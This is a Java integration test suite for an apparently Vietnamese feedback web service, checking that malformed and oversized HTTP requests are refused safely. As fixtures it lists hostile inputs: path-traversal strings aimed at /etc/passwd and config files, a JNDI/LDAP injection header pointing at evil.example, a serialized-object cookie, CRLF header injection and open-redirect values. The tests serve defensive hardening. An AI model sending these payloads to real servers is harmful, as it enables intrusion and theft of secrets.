package vn.motcham.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.motcham.hardening.Row;
import vn.motcham.house.House;
import vn.motcham.house.Reply;
import vn.motcham.house.Wire;
import vn.motcham.problem.Language;

/** Requests that are wrong as requests, whatever they are about. */
@MicronautTest(transactional = false)
class RequestRefusalsIT {
  private static final String CANARY = "kanarienvogel";

  @Inject House house;
  @Inject EmbeddedServer server;

  @Row({13, 14})
  @ParameterizedTest
  @ValueSource(ints = {65_537, 200_000, 10_000_000})
  void aBodyBeyondTheLimitIsTooLarge(int bytes) {
    Reply reply =
        Wire.to(server)
            .send(
                "POST /api/v1/invitations HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                    + "Content-Type: application/json\r\nAuthorization: "
                    + house.authorization()
                    + "\r\nContent-Length: "
                    + bytes
                    + "\r\n\r\n"
                    + " ".repeat(Math.min(bytes, 65_537)));
    reply.mustBeProblem(413, "body-too-large");
    SecurityHeaders.check(reply);
  }

  @Test
  void aBodyAtTheLimitIsRead() {
    String body = "{\"unit\": 13, \"stage\": \"result\"}";
    assertThat(house.ask(body + " ".repeat(65_536 - body.length())).status()).isEqualTo(201);
  }

  @Row(15)
  @Test
  void aBodyWithoutEndIsTooLarge() {
    String chunk = "4000\r\n" + " ".repeat(0x4000) + "\r\n";
    Reply reply =
        Wire.to(server)
            .send(
                "POST /r/NOTHING HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                    + "Content-Type: application/x-www-form-urlencoded\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\n",
                chunk.repeat(6));
    assertThat(reply.status()).isEqualTo(413);
  }

  @Test
  void aShortBodyInChunksIsRead() {
    String body = "{\"unit\": 13, \"stage\": \"result\"}";
    Reply reply =
        Wire.to(server)
            .send(
                "POST /api/v1/invitations HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                    + "Content-Type: application/json\r\nAuthorization: "
                    + house.authorization()
                    + "\r\nTransfer-Encoding: chunked\r\n\r\n",
                "%x\r\n%s\r\n".formatted(body.length(), body),
                "0\r\n\r\n");
    assertThat(reply.status()).as(reply.text()).isEqualTo(201);
  }

  @ParameterizedTest
  @CsvSource({
    "DELETE, /, GET",
    "PUT, /api/v1/invitations, POST",
    "GET, /api/v1/invitations, POST",
    "PATCH, /staff/sign-in, GET",
    "POST, /assets/page.css, GET",
    "FOO, /, ''",
    "TRACE, /, ''",
    "PROPFIND, /r/NOTHING, ''",
  })
  void aWrongMethodIsToldTheRightOnes(String method, String path, String allowed) {
    Reply reply = Wire.to(server).ask(method + " " + path + " HTTP/1.1", "Content-Length: 0");
    assertThat(reply.status()).as(reply.text()).isBetween(400, 499);
    SecurityHeaders.check(reply);
    assertThat(reply.header("allow")).contains(allowed);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"image/png", "application/xml", "*/*;q=0", "nonsense", ";;;", "text/html;q=x"})
  void whatCannotBeGivenIsRefusedInJson(String accept) {
    for (String path : List.of("/", "/staff/sign-in", "/nowhere", "/health")) {
      Reply reply = house.web().get(path, "Accept", accept);
      assertThat(reply.status()).as(path).isLessThan(500);
      SecurityHeaders.check(reply);
    }
  }

  @Test
  void aPageThatNobodyCanShowIsNotAcceptable() {
    house.web().get("/staff/sign-in", "Accept", "image/png").mustBeProblem(406, "not-acceptable");
  }

  @Row(33)
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/nowhere/" + CANARY,
        "/r/..%2f..%2fetc%2fpasswd",
        "/r/%2e%2e/%2e%2e/etc/passwd",
        "/r/..;/" + CANARY,
        "/assets/../application.properties",
        "/assets/%2e%2e/application.properties",
        "/assets/..%2fapplication.properties",
        "/assets/..%5capplication.properties",
        "/assets/%00",
        "/assets//",
        "/assets/fonts",
        "/assets/fonts/",
        "/r/%00",
        "/r/%",
        "/r/%zz",
        "/r/%c0%af",
        "/r/\\",
        "/r/a;b=c",
        "//evil.example/" + CANARY,
        "/./",
        "/?lang=%zz",
        "/?lang=vi&lang=en",
        "/?%00=%00",
        "/staff/sign-in?returnTo=//evil.example",
        "/staff/sign-in?returnTo=%0d%0aSet-Cookie:x",
        "/actuator",
        "/env",
        "/beans",
        "/.git/config",
        "/WEB-INF/web.xml",
        "/swagger",
        "/application.properties",
        "/%e2%80%ae",
        "nopath",
        "*",
      })
  void anOddPathOpensNothing(String path) {
    Reply reply = Wire.to(server).ask("GET " + path + " HTTP/1.1");
    assertThat(reply.status()).as(reply.text()).isBetween(200, 499);
    assertThat(reply.text()).doesNotContain("micronaut", "root:", "Exception", "datasources");
    if (reply.status() >= 400 && !path.startsWith("/r/")) {
      assertThat(reply.header("content-type")).startsWith("application/problem+json");
      assertThat(reply.text()).doesNotContain(CANARY);
    }
    SecurityHeaders.check(reply);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/actuator", "/env", "/beans", "/.git/config", "/swagger", "/setup"})
  void whatIsNotThereIsNotFound(String path) {
    house.web().get(path).mustBeProblem(404, "not-found");
  }

  @Test
  void aBrowserIsAnsweredWithAPage() {
    Reply reply = house.web().open("/nowhere/" + CANARY);
    assertThat(reply.status()).isEqualTo(404);
    WellFormed.check(reply.text(), Language.VI);
    WellFormed.check(house.web().open("/nowhere?lang=en").text(), Language.EN);
  }

  @ParameterizedTest
  @ValueSource(ints = {4_097, 100_000})
  void aLineThatIsTooLongIsRefused(int length) {
    Reply reply = Wire.to(server).ask("GET /" + "a".repeat(length) + " HTTP/1.1");
    reply.mustBeProblem(414, "line-too-long");
    SecurityHeaders.check(reply);
  }

  @Test
  void headersThatAreTooLongAreRefused() {
    Reply reply = Wire.to(server).ask("GET / HTTP/1.1", "X-Long: " + "a".repeat(9_000));
    reply.mustBeProblem(431, "headers-too-large");
    SecurityHeaders.check(reply);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Cookie: motcham=%00",
        "Cookie: motcham=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "Cookie: motcham={\"a\":1}",
        "Cookie: motcham=a; motcham=b",
        "Cookie: motcham=\u00e9\u00ff",
        "Cookie: =; ;;; =a",
        "Cookie: lang=%zz; lang=../../etc",
        "Cookie: lang=\"",
        "Cookie: \u0001",
        "Accept-Language: ${jndi:ldap://evil.example}",
        "Content-Type: a/b/c",
        "If-Modified-Since: yesterday",
        "Range: bytes=0-99999999999999999999",
        "X-HTTP-Method-Override: DELETE",
        "Host: evil.example",
        "Origin: null",
        "Expect: 100-continue",
        "Upgrade: h2c",
      })
  void anOddHeaderChangesNothing(String header) {
    for (String path :
        List.of("/staff/sign-in", "/r/NOTHING", "/assets/page.css", "/staff/units")) {
      Reply reply = Wire.to(server).ask("GET " + path + " HTTP/1.1", header, "Accept: text/html");
      assertThat(reply.status()).as(path + " " + header).isBetween(200, 499);
      assertThat(reply.text()).doesNotContain("evil.example");
      SecurityHeaders.check(reply);
    }
  }

  @Test
  void everyKindOfAnswerCarriesTheHeaders() {
    String token = house.invite(house.unit("SL.X01.TTHCC"));
    for (String path :
        List.of(
            "/",
            "/health",
            "/health/liveness",
            "/r/" + token,
            "/r/" + token + "/qr.png",
            "/r/" + token + "/qr.svg",
            "/r/thanks",
            "/staff",
            "/staff/sign-in",
            "/staff/units",
            "/assets/page.css",
            "/assets/favicon.svg",
            "/assets/fonts/be-vietnam-pro-latin-400-normal.woff2",
            "/nowhere",
            "/api/v1/nowhere")) {
      SecurityHeaders.check(house.web().get(path));
      SecurityHeaders.check(house.web().open(path));
      SecurityHeaders.check(house.web().send("HEAD", path, new byte[0]));
      SecurityHeaders.check(house.web().send("OPTIONS", path, new byte[0]));
    }
  }

  @Test
  void onlyFilesMayBeKept() {
    assertThat(house.web().get("/assets/page.css").header("cache-control")).contains("max-age");
    for (String path : List.of("/", "/staff/sign-in", "/nowhere", "/r/thanks")) {
      assertThat(house.web().open(path).header("cache-control")).isEqualTo("no-store");
    }
  }

  @Row(65)
  @Test
  void aMethodCannotBeOverridden() {
    String token = house.invite(house.unit("SL.X01.TTHCC"));
    Reply reply =
        house.web().open("/r/" + token + "?_method=POST", "X-HTTP-Method-Override", "POST");
    assertThat(reply.status()).isEqualTo(200);
  }

  @Test
  void anErrorIsSaidInTheReadersLanguage() {
    byte[] vietnamese = house.web().get("/nowhere").body();
    byte[] english = house.web().get("/nowhere?lang=en").body();
    assertThat(new String(vietnamese, StandardCharsets.UTF_8))
        .isNotEqualTo(new String(english, StandardCharsets.UTF_8));
  }
}
